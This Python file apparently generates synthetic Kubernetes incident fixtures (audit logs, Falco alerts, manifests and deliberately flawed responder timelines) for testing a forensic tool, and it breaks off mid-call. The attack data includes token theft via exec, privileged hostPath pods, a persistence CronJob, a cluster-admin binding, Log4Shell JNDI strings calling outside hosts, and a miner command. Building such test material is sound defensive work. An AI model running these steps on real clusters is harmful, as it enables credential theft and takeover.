"""Two incidents that differ from the real case in all that a heuristic could lean on: who
came in and how, what kind of workload, which cloud's log, what the responders did and forgot.
The truth is written down here, as the story is told; exhibit must find it."""
import json
import uuid
from pathlib import Path

SPACE = uuid.UUID("a7c9d0f2-0000-4000-8000-000000000000")
KUBECTL = "kubectl/v1.30.2 (linux/amd64) kubernetes/3968350"
KCM = "kube-controller-manager/v1.29.4 (linux/amd64) kubernetes/55019c8"


class Case:
    """Collects records; `at` is seconds after the case's start."""

    def __init__(self, name, day):
        self.name, self.day = name, day
        self.audit, self.falco, self.files = [], [], {}
        self.count = 0

    def time(self, at, digits=6):
        seconds = int(at)
        fraction = f"{round((at - seconds) * 10 ** digits):0{digits}d}"
        return (f"{self.day}T{10 + seconds // 3600:02d}:{seconds // 60 % 60:02d}:"
                f"{seconds % 60:02d}.{fraction}Z")

    def uid(self, what):
        return str(uuid.uuid5(SPACE, f"{self.name} {what}"))

    def request(self, at, user, verb, target, code=200, *, agent=KUBECTL, source="10.0.9.9",
                groups=("system:authenticated",), body=None, answer=None, query="", reason="",
                extra=None, stages=("ResponseComplete",), group="", level=None, shown=None):
        """`target`: "pods/exec billing/ledger-0", "nodes n1", "secrets billing/", "secrets"."""
        what, _, where = target.partition(" ")
        resource, _, sub = what.partition("/")
        namespace, slash, name = where.partition("/")
        if not slash:
            namespace, name = "", where
        self.count += 1
        version = "v1"
        path = f"/apis/{group}/{version}" if group else "/api/v1"
        path += (f"/namespaces/{namespace}" if namespace else "") + f"/{resource}"
        path += (f"/{name}" if name and verb != "create" or sub else "") + (f"/{sub}" if sub else "")
        ref = {"resource": resource, "apiVersion": version}
        for key, value in (("namespace", namespace), ("name", name), ("subresource", sub),
                           ("apiGroup", group)):
            if value:
                ref[key] = value
        account = {"username": user, "uid": self.uid(user), "groups": list(groups)}
        if extra:
            account["extra"] = extra
        for i, stage in enumerate(stages):
            record = {"kind": "Event", "apiVersion": "audit.k8s.io/v1",
                      "level": level or ("RequestResponse" if body or answer else "Metadata"),
                      "auditID": self.uid(f"request {self.count}"), "stage": stage,
                      "requestURI": path + query, "verb": verb, "user": account,
                      "sourceIPs": [source], "userAgent": agent, "objectRef": ref}
            if stage != "RequestReceived":
                record["responseStatus"] = {"metadata": {}, "code": code}
                if code == 403:
                    record["responseStatus"].update(
                        status="Failure", reason="Forbidden",
                        message=f'{resource} is forbidden: User "{user}" cannot {verb}')
            if stage == "ResponseComplete":
                if body is not None:
                    record["requestObject"] = body
                if answer is not None:
                    record["responseObject"] = answer
            record["requestReceivedTimestamp"] = self.time(at)
            record["stageTimestamp"] = self.time(at + 0.004 + 0.4 * i)
            if stage != "RequestReceived":
                record["annotations"] = {
                    "authorization.k8s.io/decision": "forbid" if code == 403 else "allow",
                    "authorization.k8s.io/reason": reason}
            self.audit.append((at + 0.4 * i, record))

    def alert(self, at, rule, pod, command, *, priority="Warning", tags=("T1059",), image="",
              container="", more=None):
        namespace, _, name = pod.partition("/")
        fields = {"container.id": container[:12], "container.name": "app",
                  "container.image.repository": image, "k8s.ns.name": namespace,
                  "k8s.pod.name": name, "proc.cmdline": command,
                  "proc.name": command.split()[0].split("/")[-1], "user.name": "root",
                  "evt.time": 0, **(more or {})}
        del fields["evt.time"]
        self.falco.append((at, {
            "hostname": "node", "output": f"{rule} (command={command} pod={name})",
            "output_fields": fields, "priority": priority, "rule": rule, "source": "syscall",
            "tags": sorted(tags), "time": self.time(at, 9)}))

    def records(self):
        return [r for _, r in sorted(self.audit, key=lambda x: x[0])]

    def alerts(self):
        return [r for _, r in sorted(self.falco, key=lambda x: x[0])]

    def write(self, folder):
        for name, text in self.files.items():
            path = folder / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(text)


def lines(values):
    return "".join(json.dumps(v, separators=(",", ":")) + "\n" for v in values)


def account(namespace, name):
    return f"system:serviceaccount:{namespace}:{name}"


# -- a stolen kubeconfig, a StatefulSet, EKS --------------------------------------------------

def ledger():
    """Bob's kubeconfig is used from outside: into ledger-0, its token, a CronJob that stays."""
    c = Case("ledger", "2026-04-02")
    bob, dana, sre = "bob@corp.example", "dana@corp.example", "erin@corp.example"
    evil, office = "198.51.100.77", "192.0.2.10"
    token, image, container = account("billing", "ledger"), "registry.corp/ledger", "c1" * 32
    pod = "billing/ledger-0"
    labels = {"app": "ledger", "statefulset.kubernetes.io/pod-name": "ledger-0"}
    manifest = {
        "apiVersion": "v1", "kind": "Pod",
        "metadata": {"name": "ledger-0", "namespace": "billing", "uid": c.uid("pod"),
                     "creationTimestamp": "2026-03-20T08:00:00Z", "labels": labels,
                     "ownerReferences": [{"apiVersion": "apps/v1", "kind": "StatefulSet",
                                          "name": "ledger", "uid": c.uid("set"),
                                          "controller": True}]},
        "spec": {
            "serviceAccountName": "ledger", "nodeName": "ip-10-0-3-7",
            "imagePullSecrets": [{"name": "registry-pull"}],
            "initContainers": [{"name": "migrate", "image": image + "-migrate:2", "envFrom": [
                {"secretRef": {"name": "ledger-migrate"}}]}],
            "containers": [{
                "name": "app", "image": image + ":7",
                "env": [{"name": "DB_PASSWORD", "valueFrom": {"secretKeyRef": {
                    "name": "ledger-db", "key": "password"}}}],
                "volumeMounts": [
                    {"name": "tls", "mountPath": "/tls"}, {"name": "mixed", "mountPath": "/mixed"},
                    {"name": "vault", "mountPath": "/vault"},
                    {"name": "kube-api-access", "readOnly": True,
                     "mountPath": "/var/run/secrets/kubernetes.io/serviceaccount"}]}],
            "ephemeralContainers": [{"name": "debug", "image": "busybox", "envFrom": [
                {"configMapRef": {"name": "debug-settings"}}]}],
            "volumes": [
                {"name": "tls", "secret": {"secretName": "ledger-tls"}},
                {"name": "mixed", "projected": {"sources": [
                    {"secret": {"name": "ledger-mixed"}},
                    {"serviceAccountToken": {"audience": "bank.example", "path": "bank",
                                             "expirationSeconds": 7200}}]}},
                {"name": "vault", "csi": {"driver": "secrets-store.csi.k8s.io", "readOnly": True,
                                          "volumeAttributes": {
                                              "secretProviderClass": "ledger-vault"},
                                          "nodePublishSecretRef": {"name": "vault-auth"}}},
                {"name": "kube-api-access", "projected": {"sources": [
                    {"serviceAccountToken": {"expirationSeconds": 3607, "path": "token"}},
                    {"configMap": {"name": "kube-root-ca.crt"}}]}}]},
        "status": {"containerStatuses": [{"name": "app", "image": image + ":7", "containerID":
                                          "containerd://" + container}]}}
    c.files["ledger-0.yaml.json"] = json.dumps(manifest, indent=1)

    # Ordinary work before: bob from the office, the pod reads its settings every minute.
    for i in range(40):
        c.request(60 * i, token, "get", "configmaps billing/ledger-settings", agent="ledger/7.0",
                  source="10.0.3.40", groups=("system:serviceaccounts", "system:authenticated"),
                  reason='RBAC: allowed by RoleBinding "ledger/billing" of Role "ledger" to '
                         'ServiceAccount "ledger/billing"')
    for i in range(6):
        c.request(300 * i + 7, bob, "list", "pods billing/", source=office)
    # The theft is seen when bob's account works from another address.
    start = 3000
    c.request(start, bob, "create", "selfsubjectrulesreviews", 201, source=evil,
              group="authorization.k8s.io")
    c.request(start + 20, bob, "list", "pods billing/", source=evil)
    # kubectl: WebSocket refused by a proxy, SPDY at once after it; one session.
    command = "?command=sh&command=-c&command=cat+%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io" \
              "%2Fserviceaccount%2Ftoken&container=app&stdout=true"
    c.request(start + 60, bob, "get", f"pods/exec {pod}", 502, source=evil, query=command)
    c.request(start + 60.3, bob, "create", f"pods/exec {pod}", 101, source=evil, query=command,
              stages=("RequestReceived", "ResponseStarted", "ResponseComplete"))
    for n in ("orders-0", "ledger-0"):  # every pod of the image answers its probe with a shell
        for i in range(8):
            c.alert(400 * i + 3, "Run shell untrusted", f"billing/{n}", "sh -c /probe.sh",
                    image=image, container=container if n == "ledger-0" else "d2" * 32)
    c.alert(start + 60.9, "Read sensitive file untrusted", pod,
            "cat /var/run/secrets/kubernetes.io/serviceaccount/token", image=image,
            container=container, tags=("T1555",),
            more={"fd.name": "/var/run/secrets/kubernetes.io/serviceaccount/token"})
    # The pod's token, used from outside.
    outside = dict(agent="curl/8.6.0", source=evil,
                   groups=("system:serviceaccounts", "system:authenticated"),
                   extra={"authentication.kubernetes.io/pod-name": ["ledger-0"],
                          "authentication.kubernetes.io/credential-id": ["JTI=" + c.uid("jti")]})
    c.request(start + 120, token, "list", "secrets billing/", **outside)
    c.request(start + 130, token, "get", "secrets payments/card-key", 403, **outside)
    # Bob's rights make the rest.
    helper = {"apiVersion": "v1", "kind": "Pod",
              "metadata": {"name": "dns-helper", "namespace": "kube-system"},
              "spec": {"hostPID": True, "containers": [
                  {"name": "c", "image": "alpine", "securityContext": {"privileged": True},
                   "volumeMounts": [{"name": "root", "mountPath": "/host"}]}],
                  "volumes": [{"name": "root", "hostPath": {"path": "/"}}]}}
    c.request(start + 200, bob, "create", "pods kube-system/dns-helper", 201, source=evil,
              body=helper, answer=helper)
    c.request(start + 200.5, "system:kube-scheduler", "create",
              "pods/binding kube-system/dns-helper", 201, agent="kube-scheduler/v1.29.4",
              source="10.0.0.2", body={"kind": "Binding", "target": {"kind": "Node",
                                                                     "name": "ip-10-0-1-1"}})
    cron = {"apiVersion": "batch/v1", "kind": "CronJob",
            "metadata": {"name": "metrics-sync", "namespace": "billing"},
            "spec": {"schedule": "*/10 * * * *", "jobTemplate": {"spec": {"template": {"spec": {
                "serviceAccountName": "ledger", "containers": [{
                    "name": "s", "image": "alpine", "envFrom": [
                        {"secretRef": {"name": "ledger-api"}}]}]}}}}}}
    c.request(start + 260, bob, "create", "cronjobs billing/metrics-sync", 201, source=evil,
              group="batch", body=cron, answer=cron)
    job = {"apiVersion": "batch/v1", "kind": "Job",
           "metadata": {"name": "metrics-sync-1", "namespace": "billing", "ownerReferences": [
               {"kind": "CronJob", "name": "metrics-sync", "controller": True}]}}
    c.request(start + 600, account("kube-system", "cronjob-controller"), "create",
              "jobs billing/metrics-sync-1", 201, agent=KCM, source="10.0.0.2", group="batch",
              body=job, answer=job)
    ran = {"apiVersion": "v1", "kind": "Pod", "metadata": {
        "name": "metrics-sync-1-abcde", "namespace": "billing", "ownerReferences": [
            {"kind": "Job", "name": "metrics-sync-1", "controller": True}]},
        "spec": cron["spec"]["jobTemplate"]["spec"]["template"]["spec"]}
    c.request(start + 600.4, account("kube-system", "job-controller"), "create",
              "pods billing/metrics-sync-1-abcde", 201, agent=KCM, source="10.0.0.2", body=ran,
              answer=ran)
    # The answer: a policy with a hole, then one without; cordon; scale to nothing.
    policy = {"apiVersion": "networking.k8s.io/v1", "kind": "NetworkPolicy",
              "metadata": {"name": "hold", "namespace": "billing"},
              "spec": {"podSelector": {"matchLabels": {"app": "ledger"}},
                       "policyTypes": ["Ingress", "Egress"], "ingress": [],
                       "egress": [{"to": [{"ipBlock": {"cidr": "0.0.0.0/0",
                                                       "except": ["10.0.0.0/8"]}}]}]}}
    net = "networking.k8s.io"
    c.request(start + 900, dana, "create", "networkpolicies billing/hold", 201, source=office,
              group=net, body=policy, answer=policy)
    c.request(start + 960, token, "list", "configmaps billing/", **outside)
    closed = json.loads(json.dumps(policy))
    closed["spec"]["egress"] = []
    c.request(start + 1000, dana, "update", "networkpolicies billing/hold", 200, source=office,
              group=net, body=closed, answer=closed)
    c.request(start + 1010, dana, "patch", "nodes ip-10-0-3-7", 200, source=office,
              body={"spec": {"unschedulable": True}})
    c.request(start + 1030, dana, "delete", "pods kube-system/dns-helper", 200, source=office)
    c.request(start + 1100, dana, "patch", "statefulsets/scale billing/ledger", 200, source=office,
              group="apps", body={"spec": {"replicas": 0}})
    c.request(start + 1100.2, account("kube-system", "statefulset-controller"), "delete",
              f"pods {pod}", 200, agent=KCM, source="10.0.0.2")
    c.request(start + 1200, dana, "patch", "secrets billing/ledger-db", 200, source=office,
              level="Metadata")
    c.request(start + 1230, token, "list", "secrets billing/", 401, **outside)
    c.request(start + 1300, sre, "list", "nodes", source=office)

    c.files["audit-export-000000"] = "".join(
        f"{c.time(4500, 3)} {json.dumps(r, separators=(',', ':'))}\n" for r in c.records())
    c.files["falco.json"] = lines(c.alerts())
    c.files["secrets.json"] = json.dumps({"apiVersion": "v1", "kind": "List", "items": [
        {"apiVersion": "v1", "kind": "Secret", "type": "Opaque",
         "metadata": {"name": n, "namespace": "billing",
                      "creationTimestamp": "2026-01-01T00:00:00Z"}}
        for n in ("ledger-db", "ledger-tls", "unrelated")]}, indent=1)
    c.files["rbac.json"] = json.dumps({"apiVersion": "v1", "kind": "List", "items": [
        {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role",
         "metadata": {"name": "ledger", "namespace": "billing"},
         "rules": [{"apiGroups": [""], "resources": ["secrets", "configmaps"],
                    "verbs": ["get", "list"]}]},
        {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding",
         "metadata": {"name": "ledger", "namespace": "billing"},
         "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "ledger"},
         "subjects": [{"kind": "Group", "name": "system:serviceaccounts:billing",
                       "apiGroup": "rbac.authorization.k8s.io"}]},
        {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRole",
         "metadata": {"name": "reader", "labels": {"agg": "yes"}},
         "rules": [{"apiGroups": [""], "resources": ["secrets"], "resourceNames": ["card-key"],
                    "verbs": ["get"]}]},
        {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRole",
         "metadata": {"name": "collected"}, "aggregationRule": {"clusterRoleSelectors": [
             {"matchLabels": {"agg": "yes"}}]}, "rules": []},
        {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding",
         "metadata": {"name": "collected", "namespace": "archive"},
         "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole",
                     "name": "collected"},
         "subjects": [{"kind": "ServiceAccount", "name": "ledger", "namespace": "billing"}]}]})
    c.files["timeline.csv"] = "\n".join([
        "time,event",
        f"{c.time(start + 60, 0)[:19]}Z,Attacker ran exec into pod ledger-0",
        f"{c.time(start + 200, 0)[:19]}Z,Attacker created the pod dns-helper in kube-system",
        f"{c.time(start + 260, 0)[:19]}Z,CronJob metrics-sync created by the attacker",
        f"{c.time(start + 905, 0)[:19]}Z,Network policy hold applied by dana",
        f"{c.time(start + 300, 0)[:19]}Z,Dana deleted the cronjob metrics-sync",
        f"{c.time(start + 1205, 0)[:19]}Z,Secret ledger-db rotated", ""])
    c.start, c.bob, c.dana, c.token, c.evil = start, bob, dana, token, evil
    return c


# -- a hole in a program, a DaemonSet, AKS ------------------------------------------------------

def agent():
    """The node agent's account reaches far: nodes/proxy, TokenRequest, a binding; the policy
    of the responders selects nothing; the pod is evicted before anything was captured."""
    c = Case("agent", "2026-05-11")
    carol, office = "carol@ops.example", "192.0.2.44"
    token, container = account("monitoring", "node-agent"), "e5" * 32
    deployer = account("ci", "deployer")
    pod, image = "monitoring/node-agent-x7k2p", "acr.example/node-agent"
    inside = dict(agent="Go-http-client/1.1", source="10.244.7.9",
                  groups=("system:serviceaccounts", "system:authenticated"))
    manifest = {
        "apiVersion": "v1", "kind": "Pod",
        "metadata": {"name": "node-agent-x7k2p", "namespace": "monitoring", "uid": c.uid("pod"),
                     "creationTimestamp": "2026-05-01T00:00:00Z",
                     "labels": {"app.kubernetes.io/name": "node-agent"},
                     "ownerReferences": [{"apiVersion": "apps/v1", "kind": "DaemonSet",
                                          "name": "node-agent", "controller": True}]},
        "spec": {"serviceAccountName": "node-agent", "nodeName": "aks-pool-3", "hostPID": True,
                 "containers": [{"name": "agent", "image": image + ":3",
                                 "securityContext": {"privileged": True},
                                 "env": [{"name": "API_KEY", "value": "AKIAIOSFODNN7EXAMPLE"}],
                                 "volumeMounts": [{"name": "host", "mountPath": "/host"}]}],
                 "volumes": [{"name": "host", "hostPath": {"path": "/"}}]},
        "status": {"containerStatuses": [{"name": "agent", "containerID":
                                          "containerd://" + container, "image": image + ":3"}]}}
    c.files["pod.json"] = json.dumps({"apiVersion": "v1", "kind": "PodList", "items": [manifest]})
    for i in range(60):
        c.request(30 * i, token, "list", "pods", agent="node-agent/3.1", source="10.244.7.9",
                  groups=inside["groups"])
    start = 2000
    log = f"pods/monitoring_node-agent-x7k2p_{c.uid('pod')}/agent/0.log"
    text = [(i * 200, "scrape ok") for i in range(10)]
    text += [(start, 'POST /probe "${jndi:ldap://203.0.113.99:1389/a}" 200')]
    c.files[log] = "".join(f"{c.time(at, 9)} stdout F {line}\n" for at, line in text)
    c.alert(start + 2, "Redirect STDOUT/STDIN to Network Connection in Container", pod, "bash -i",
            image=image, container=container, priority="Notice")
    c.request(start + 30, token, "create", "selfsubjectrulesreviews", 201,
              group="authorization.k8s.io", **inside)
    c.request(start + 40, token, "list", "secrets", **inside)
    c.request(start + 60, token, "create", "nodes/proxy aks-pool-1", 200, query="/run/x", **inside)
    c.request(start + 80, token, "create", "serviceaccounts/token ci/deployer", 201,
              body={"kind": "TokenRequest", "spec": {"expirationSeconds": 86400}},
              **inside)
    issued = dict(agent="kubectl/v1.28.0 (linux/amd64) kubernetes/aaaaaaa", source="10.244.7.9",
                  groups=("system:serviceaccounts", "system:authenticated"))
    binding = {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding",
               "metadata": {"name": "ci-view"}, "roleRef": {
                   "apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole",
                   "name": "cluster-admin"},
               "subjects": [{"kind": "ServiceAccount", "name": "deployer", "namespace": "ci"}]}
    c.request(start + 100, deployer, "create", "clusterrolebindings ci-view", 201,
              group="rbac.authorization.k8s.io", body=binding, answer=binding, **issued)
    c.request(start + 110, deployer, "get", "secrets vault/root", 200, **issued)
    policy = {"apiVersion": "networking.k8s.io/v1", "kind": "NetworkPolicy",
              "metadata": {"name": "isolate", "namespace": "monitoring"},
              "spec": {"podSelector": {"matchLabels": {"quarantine": "true"}},
                       "policyTypes": ["Ingress", "Egress"]}}
    c.request(start + 400, carol, "create", "networkpolicies monitoring/isolate", 201,
              source=office, group="networking.k8s.io", body=policy, answer=policy)
    c.request(start + 460, carol, "create", f"pods/eviction {pod}", 201, source=office,
              body={"kind": "Eviction"})
    c.request(start + 500, deployer, "get", "secrets vault/root", 200, **issued)
    c.request(start + 600, carol, "delete", "clusterrolebindings ci-view", 200, source=office,
              group="rbac.authorization.k8s.io")
    c.files["insights-logs-kube-audit.json"] = lines(
        {"time": r["stageTimestamp"], "category": "kube-audit", "resourceId":
         "/SUBSCRIPTIONS/S/PROVIDERS/MICROSOFT.CONTAINERSERVICE/MANAGEDCLUSTERS/EDGE",
         "properties": {"log": json.dumps(r), "stream": "stdout", "pod": "kube-apiserver-1"}}
        for r in c.records())
    c.files["alerts.jsonl"] = lines(c.alerts())
    c.files["incident-timeline.txt"] = "\n".join([
        f"{c.time(start, 0)[:19]}Z - exploit request against the agent, shell opened",
        f"{c.time(start + 42, 0)[:19]}Z - attacker listed all secrets",
        f"{c.time(start + 402, 0)[:19]}Z - network policy isolate applied by carol",
        f"{c.time(start + 610, 0)[:19]}Z - cluster role binding ci-view removed by carol",
        f"{c.time(start + 300, 0)[:19]}Z - carol rotated the secret root in vault", ""])
    c.start, c.carol, c.token, c.deployer = start, carol, token, deployer
    return c


# -- a person's stolen credentials, a miner, GKE ------------------------------------------------

def gke_entry(r):
    """The record as Cloud Logging has it: no stages, no groups, no URI."""
    ref = r["objectRef"]
    group = ref.get("apiGroup", "core")
    parts = [group, "v1"] + (["namespaces", ref["namespace"]] if "namespace" in ref else [])
    parts += [ref[k] for k in ("resource", "name", "subresource") if k in ref]
    method = ".".join(["io.k8s", group.split(".")[0], "v1", ref["resource"],
                       *([ref["subresource"]] if "subresource" in ref else []), r["verb"]])
    denied = r["responseStatus"]["code"] == 403
    payload = {
        "@type": "type.googleapis.com/google.cloud.audit.AuditLog", "serviceName": "k8s.io",
        "methodName": method, "resourceName": "/".join(parts),
        "authenticationInfo": {"principalEmail": r["user"]["username"]},
        "requestMetadata": {"callerIp": r["sourceIPs"][-1],
                            "callerSuppliedUserAgent": r["userAgent"]},
        "authorizationInfo": [{"granted": not denied, "permission": method}],
        "status": {"code": 7, "message": "denied"} if denied else {}}
    for ours, theirs in (("requestObject", "request"), ("responseObject", "response")):
        if ours in r:
            payload[theirs] = r[ours]
    return {"insertId": r["auditID"][:12], "operation": {"id": r["auditID"]},
            "labels": r["annotations"], "protoPayload": payload,
            "resource": {"type": "k8s_cluster", "labels": {"cluster_name": "prod"}},
            "timestamp": r["requestReceivedTimestamp"]}


def miner(moved=True):
    """The pod is the attacker's own: made with a developer's credentials, by way of a
    Deployment. Not `moved`: the same from where, and with what, the developer always works."""
    c = Case("miner", "2026-09-01")
    dev, lead, office = "bob@corp.example", "carol@corp.example", "192.0.2.50"
    usual = dict(source=office, agent="kubectl/v1.29.2 (linux/amd64) kubernetes/aa")
    other = dict(source="203.0.113.200", agent="kubectl/v1.31.4 (windows/amd64) kubernetes/bb")
    there = other if moved else usual
    for i in range(30):
        c.request(45 * i, dev, "list", "pods web/", **usual)
        c.request(45 * i + 2, "system:gke-common-webhooks", "list", "secrets",
                  agent="gke-common-webhooks/v0", source="127.0.0.1")
    start = 1600
    c.request(start, dev, "create", "selfsubjectaccessreviews", 201,
              group="authorization.k8s.io", **there)
    c.request(start + 10, dev, "list", "secrets web/", **there)
    spec = {"containers": [{"name": "c", "image": "docker.io/evil/xmrig:6"}]}

    def made(kind, name, owner=None):
        body = {"apiVersion": "apps/v1", "kind": kind,
                "metadata": {"name": name, "namespace": "web", "labels": {"app": "cache"}},
                "spec": spec if kind == "Pod" else {"template": {"spec": spec}}}
        if owner:
            body["metadata"]["ownerReferences"] = [{"kind": owner[0], "name": owner[1],
                                                    "controller": True}]
        return dict(body=body, answer=body)

    c.request(start + 60, dev, "create", "deployments web/cache", 201, group="apps",
              **made("Deployment", "cache"), **there)
    inside = dict(agent=KCM, source="10.0.3.5", groups=("system:serviceaccounts",))
    c.request(start + 60.2, account("kube-system", "deployment-controller"), "create",
              "replicasets web/cache-7d9f", 201, group="apps",
              **made("ReplicaSet", "cache-7d9f", ("Deployment", "cache")), **inside)
    pod = made("Pod", "cache-7d9f-p0", ("ReplicaSet", "cache-7d9f"))
    c.request(start + 60.4, account("kube-system", "replicaset-controller"), "create",
              "pods web/cache-7d9f-p0", 201, **pod, **inside)
    c.alert(start + 70, "Detect crypto miners using the Stratum protocol", "web/cache-7d9f-p0",
            "xmrig -o stratum+tcp://pool.example:3333", image="docker.io/evil/xmrig",
            container="aa" * 32, priority="Critical", tags=("T1496",))
    for i in range(6):
        c.request(start + 100 + 100 * i, dev, "list", "pods web/", **usual)
    c.request(start + 850, lead, "create", "ciliumnetworkpolicies web/lock", 201,
              group="cilium.io", source="192.0.2.6",
              body={"kind": "CiliumNetworkPolicy", "spec": {"endpointSelector": {}}})
    c.request(start + 900, lead, "delete", "deployments web/cache", group="apps",
              source="192.0.2.6")
    manifest = json.loads(json.dumps(pod["body"]))
    manifest["apiVersion"] = "v1"
    manifest["metadata"].update(uid=c.uid("pod"), creationTimestamp=c.time(start + 60, 0)[:19] + "Z")
    manifest["spec"].update(nodeName="n1", serviceAccountName="default")
    manifest["status"] = {"containerStatuses": [{"name": "c", "image": "docker.io/evil/xmrig:6",
                                                 "containerID": "containerd://" + "aa" * 32}]}
    c.files["pod.json"] = json.dumps(manifest)
    c.files["falco.json"] = lines(c.alerts())
    c.files["gke.json"] = json.dumps([gke_entry(r) for r in c.records()], indent=2)
    c.start, c.dev, c.lead = start, dev, lead
    return c


# -- a certificate and somebody else's name ------------------------------------------------------

def disguise():
    """The pod's account asks for a certificate of a new user and acts as another one, who
    goes on with work of her own; the new user comes back later."""
    c = Case("disguise", "2026-08-03")
    token, pod, eve = account("shop", "web"), "shop/web-0", "203.0.113.66"
    alice, backdoor = "alice@corp.example", "backdoor"
    inside = dict(agent="curl/8.5.0", source="10.244.1.7", groups=("system:serviceaccounts",))
    for i in range(20):
        c.request(60 * i, token, "get", "configmaps shop/web", agent="web/2.4",
                  source="10.244.1.7", groups=("system:serviceaccounts",))
        c.request(60 * i + 5, alice, "list", "pods shop/", source="192.0.2.7")
    start = 1300
    c.alert(start - 5, "Run shell untrusted", pod, "sh -c id", container="c3" * 32)
    csr = {"kind": "CertificateSigningRequest", "metadata": {"name": "x"}, "spec": {
        "request": (Path(__file__).parents[2] / "corpus/fuzz/csr/named").read_text(),
        "signerName": "kubernetes.io/kube-apiserver-client", "usages": ["client auth"]}}
    c.request(start, token, "create", "certificatesigningrequests x", 201, body=csr, answer=csr,
              group="certificates.k8s.io", **inside)
    c.request(start + 10, token, "patch", "configmaps shop/web", shown=alice, **inside)
    c.audit[-1][1]["impersonatedUser"] = {"username": alice, "groups": ["system:authenticated"]}
    c.request(start + 60, alice, "patch", "deployments billing/pay", group="apps",
              source="192.0.2.7")
    metrics = account("shop", "metrics")
    scrape = dict(agent="metrics/1.0", source="10.244.5.5", groups=("system:serviceaccounts",))
    runs = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "m", "namespace": "shop"},
            "spec": {"serviceAccountName": "metrics", "containers": [{"name": "m", "image": "a"}]}}
    c.request(start + 100, token, "create", "pods shop/m", 201, body=runs, answer=runs, **inside)
    for i in range(30):
        c.request(60 * i + 20, metrics, "update", "configmaps shop/metrics", **scrape)
    c.request(start + 200, metrics, "create", "configmaps shop/hidden", 201, agent="curl/8.5.0",
              source="10.244.1.9", groups=("system:serviceaccounts",))
    c.request(start + 300, backdoor, "get", "secrets billing/card", source=eve)
    c.files["pod.json"] = json.dumps({
        "apiVersion": "v1", "kind": "Pod",
        "metadata": {"name": "web-0", "namespace": "shop", "uid": c.uid("pod"),
                     "creationTimestamp": f"{c.day}T09:00:00Z"},
        "spec": {"serviceAccountName": "web", "nodeName": "n1",
                 "containers": [{"name": "app", "image": "registry.example/web:2"}]},
        "status": {"containerStatuses": [{"name": "app", "image": "registry.example/web:2",
                                          "containerID": "containerd://" + "c3" * 32}]}})
    c.files["audit.log"] = lines(c.records())
    c.files["falco.jsonl"] = lines(c.alerts())
    c.alice, c.backdoor = alice, backdoor
    return c


# -- an administrator's stolen credentials, and no pod in the package --------------------------

def takeover():
    c = Case("takeover", "2026-10-02")
    admin, group = "kubernetes-admin", ("kubeadm:cluster-admins", "system:authenticated")
    usual = dict(source="10.0.0.2", groups=group)
    other = dict(source="198.51.100.99", groups=group,
                 agent="kubectl/v1.28.0 (darwin/arm64) kubernetes/cc")
    for i in range(40):
        c.request(30 * i, "system:node:w1", "patch", "nodes/status w1", agent="kubelet/v1.30",
                  source="10.0.0.11", groups=("system:nodes",))
    for i in range(6):
        c.request(200 * i + 7, admin, "list", "nodes", **usual)
    start = 1300
    c.request(start, admin, "list", "namespaces", **other)
    c.request(start + 5, admin, "list", "secrets", **other)
    spec = {"hostPID": True, "containers": [{"name": "h", "image": "alpine:3", "securityContext":
                                             {"privileged": True}}],
            "volumes": [{"name": "r", "hostPath": {"path": "/"}}]}
    made = {"apiVersion": "apps/v1", "kind": "DaemonSet", "spec": {"template": {"spec": spec}},
            "metadata": {"name": "node-helper", "namespace": "kube-system"}}
    c.request(start + 30, admin, "create", "daemonsets kube-system/node-helper", 201,
              group="apps", body=made, answer=made, **other)
    c.request(start + 200, admin, "list", "nodes", **usual)
    c.files["audit.log"] = lines(c.records())
    c.start, c.admin = start, admin
    return c


# -- somebody debugs, and nobody attacks ------------------------------------------------------
def debugging(stolen=False, session=("get", "pods/exec", 101)):
    """A developer opens a shell through the API, installs a tool and starts it; a scanner of
    the Internet has left its probes in the log. `stolen`: the account of the pod then lists
    secrets with curl, which no work explains."""
    c = Case("debugging", "2026-06-02")
    dev, office, pod = "jana@corp.example", "192.0.2.60", "storefront/web-7c9f6d5b48-x2x9k"
    container, image, token = "c3" * 32, "registry.example/web", account("storefront", "web")
    c.files["pod.json"] = json.dumps({
        "apiVersion": "v1", "kind": "Pod",
        "metadata": {"name": pod.split("/")[1], "namespace": "storefront", "uid": c.uid("pod"),
                     "creationTimestamp": f"{c.day}T09:00:00Z", "labels": {"app": "web"}},
        "spec": {"serviceAccountName": "web", "nodeName": "n1", "containers": [
            {"name": "app", "image": image + ":2", "env": [
                {"name": "PASSWORD", "valueFrom": {"secretKeyRef": {"name": "web-db",
                                                                    "key": "password"}}}]}]},
        "status": {"containerStatuses": [{"name": "app", "image": image + ":2",
                                          "containerID": "containerd://" + container}]}})
    for i in range(20):
        c.request(60 * i, token, "get", "configmaps storefront/web", agent="web/2.4",
                  source="10.244.1.7", groups=("system:serviceaccounts",))
    log = [(i * 60, f"10.244.0.9 GET /?q=tea+{i} 200") for i in range(30)]
    log.append((200, '203.0.113.77 "GET /?x=${jndi:ldap://203.0.113.77/a} HTTP/1.1" 404'))
    log.append((201, '203.0.113.77 "GET /../../etc/passwd HTTP/1.1" 400'))
    c.files[f"pods/storefront_{pod.split('/')[1]}_{c.uid('pod')}/app/0.log"] = "".join(
        f"{c.time(at, 9)} stdout F {line}\n" for at, line in sorted(log))
    start = 1000
    c.request(start - 20, dev, "list", "pods storefront/", source=office)
    verb, what, code = session
    c.request(start, dev, verb, f"{what} {pod}", code, source=office,
              query="?command=sh&container=app&stdin=true&tty=true" if code == 101 else "")
    here = dict(image=image, container=container)
    c.alert(start + 0.8, "Terminal shell in container", pod, "sh", priority="Notice", **here)
    c.alert(start + 60, "Launch Package Management Process in Container", pod,
            "apt-get install -y procps", priority="Error", **here)
    c.alert(start + 80, "Drop and execute new binary in container", pod, "ps aux",
            priority="Critical", more={"proc.exe_flags": "EXE_WRITABLE|EXE_UPPER_LAYER"}, **here)
    if stolen:
        c.request(start + 120, token, "list", "secrets storefront/", 200, agent="curl/8.5.0",
